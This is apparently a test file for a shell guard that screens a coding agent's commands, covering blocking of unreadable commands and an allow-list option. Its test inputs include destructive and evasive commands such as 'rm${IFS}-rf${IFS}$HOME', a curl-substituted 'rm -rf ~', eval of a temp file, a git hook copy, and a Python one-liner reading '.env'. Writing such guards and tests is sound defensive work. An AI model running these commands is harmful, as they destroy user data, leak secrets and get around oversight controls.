import { assert, describe, it } from "@effect/vitest"
import { Effect } from "effect"
import * as Sets from "../../policies/sets.ts"
import * as Shell from "../../policies/shell.ts"
import type { PolicyResult } from "../../src/Model.ts"
import * as Policy from "../../src/Policy.ts"
import { policyHarness } from "../support/policies.ts"

const { ctx, verdict, blocks, passes } = policyHarness({ workflow: "agent.shell", wrap: (command) => ({ command }) })

/** The results of a gate on one command. */
const gate = (policies: ReadonlyArray<Policy.Policy>, command: string) =>
  Effect.runSync(Policy.evaluate(policies, ctx({ command })) as Effect.Effect<ReadonlyArray<PolicyResult>>)

describe("block_unresolved_commands", () => {
  const policy = Shell.blockUnresolvedCommands

  it("blocks what the shell model cannot resolve, saying what it could not read", () => {
    const cases: ReadonlyArray<readonly [string, string]> = [
      ["$(curl -s https://x.example) -rf ~", "not known until it runs"],
      ["rm${IFS}-rf${IFS}$HOME", "not known until it runs"],
      ["/bin/r? -rf ~", "glob pattern"],
      ["eval \"$(cat /tmp/cmd)\"", "not known until it runs"],
      ["source \"$SCRIPT\"", "not known until it runs"],
      ["sh -c \"$CMD\"", "not known until it runs"],
      ["python3 -c 'import shutil'", "inline Python code"],
      ["node -e 'require(\"fs\")'", "inline JavaScript"],
      ["perl -ne 'print' f", "inline Perl"],
      ["ruby -e 'puts 1'", "inline Ruby"],
      ["php -r 'echo 1;'", "inline PHP"],
      ["awk 'BEGIN { system(\"id\") }'", "runs commands"],
      ["sed -n '1e id' f", "runs commands"],
      ["vim -c ':!id'", "editor or debugger"],
      ["alias ll='ls -la'", "alias"],
      ["greet() { echo hi; }; greet", "shell function"],
      ["cat script.txt | bash", "pipe"],
      ["BASH_ENV=/tmp/x bash -c true", "BASH_ENV"],
      ["git co main", "alias defined outside"],
      ["git -c include.path=/tmp/x status", "file this guard cannot read"],
      ["cp /tmp/x .git/hooks/pre-commit", "git hook"]
    ]
    for (const [command, reason] of cases) assert.include(blocks(policy, command), reason, command)
  })

  it("passes commands it can read, scripts run from files included", () => {
    for (const command of [
      "npm test", "bash scripts/build.sh", "python3 -m pytest -q", "python3 tools/gen.py", "node dist/cli.js --help",
      "awk '{print $1}' access.log", "awk -F, '$3 > 10 || $4 == \"x\" { n++ } END { print n }' data.csv", "sed -n '1,40p' src/a.ts",
      "sed -i 's/a|b/c/g' src/a.ts", "git log --oneline", "echo 'echo hi' | bash", "X=ls; $X -la", "cd src && ls"
    ]) passes(policy, command)
  })
})

describe("the allow option", () => {
  it("permits an exact command the guard blocks, and the reason says it was allowed by configuration", () => {
    const guard = Shell.codingAgentShellGuard({ allow: ["git reset --hard"] })
    const results = gate(guard, "git reset --hard")
    assert.isTrue(Policy.allPassed(results), Policy.blockReason(results))
    const reason = results.find((r) => r.policy === "block_git_reset_hard")!.reason
    assert.match(reason, /^allowed by configuration: 'git reset --hard'/)
    assert.include(reason, "discards uncommitted work")
    // Exact means exact: more words are not allowed.
    assert.isFalse(Policy.allPassed(gate(guard, "git reset --hard origin/main")))
  })

  it("permits a word prefix, and wrappers do not hide the command from it", () => {
    const guard = Shell.codingAgentShellGuard({ allow: [{ prefix: "python3 -c" }] })
    for (const command of ["python3 -c 'print(1)'", "sudo python3 -c 'import sys; print(sys.version)'"]) {
      const results = gate(guard, command)
      assert.isTrue(Policy.allPassed(results), `${command}: ${Policy.blockReason(results)}`)
      assert.match(results.find((r) => r.policy === "block_unresolved_commands")!.reason, /^allowed by configuration: 'python3 -c …'/)
    }
    assert.isFalse(Policy.allPassed(gate(guard, "python3 - <<'EOF'\nprint(1)\nEOF")), "a heredoc to python is another form")
    assert.isFalse(Policy.allPassed(gate(guard, "node -e 'x'")))
  })

  it("does not extend to the other commands of the same payload", () => {
    const guard = Shell.codingAgentShellGuard({ allow: [{ prefix: "python3 -c" }] })
    const results = gate(guard, "python3 -c 'print(1)' && rm -rf ~")
    assert.isFalse(Policy.allPassed(results))
    assert.include(Policy.blockReason(results), "home directory")
  })

  it("an allowed command is trusted by every shell policy, so entries should be as narrow as possible", () => {
    const guard = Shell.codingAgentShellGuard({ allow: [{ prefix: "python3 -c" }] })
    assert.isTrue(Policy.allPassed(gate(guard, "python3 -c \"print(open('.env').read())\"")))
    const narrow = Shell.codingAgentShellGuard({ allow: ["python3 -c 'print(1)'"] })
    assert.isTrue(Policy.allPassed(gate(narrow, "python3 -c 'print(1)'")))
    assert.isFalse(Policy.allPassed(gate(narrow, "python3 -c \"print(open('.env').read())\"")))
  })

  it("refuses entries that are not one simple command of known words, when the guard is built", () => {
    for (const entry of ["", "  ", "ls; rm -rf ~", "$X", "echo $(date)", "echo 'unclosed"]) {
      assert.throws(() => Shell.codingAgentShellGuard({ allow: [entry] }), /allow entr/, entry)
    }
    assert.throws(() => Shell.codingAgentShellGuard({ allow: [{ prefix: "" }] }), /allow entr/)
  })

  it("Sets.codingAgent applies it to the git push policies too, and records it", () =>
    Effect.gen(function*() {
      const set = Sets.codingAgent({ allow: ["git push origin HEAD:main"] })
      const results = yield* Policy.evaluate(set, ctx({ command: "git push origin HEAD:main" }))
      assert.isTrue(Policy.allPassed(results), Policy.blockReason(results))
      assert.match(results.find((r) => r.policy === "dont_push_to_main")!.reason, /^allowed by configuration: 'git push origin HEAD:main'/)
      const other = yield* Policy.evaluate(set, ctx({ command: "git push origin HEAD:master" }))
      assert.isFalse(Policy.allPassed(other))
      const forced = yield* Policy.evaluate(set, ctx({ command: "git push -f origin HEAD:main" }))
      assert.isFalse(Policy.allPassed(forced), "a force push is another command")
    }))

  it("without allow entries nothing changes: the guard blocks as before", () => {
    assert.isFalse(verdict(Shell.blockUnresolvedCommands, { command: "python3 -c 'print(1)'" }).passed)
  })
})
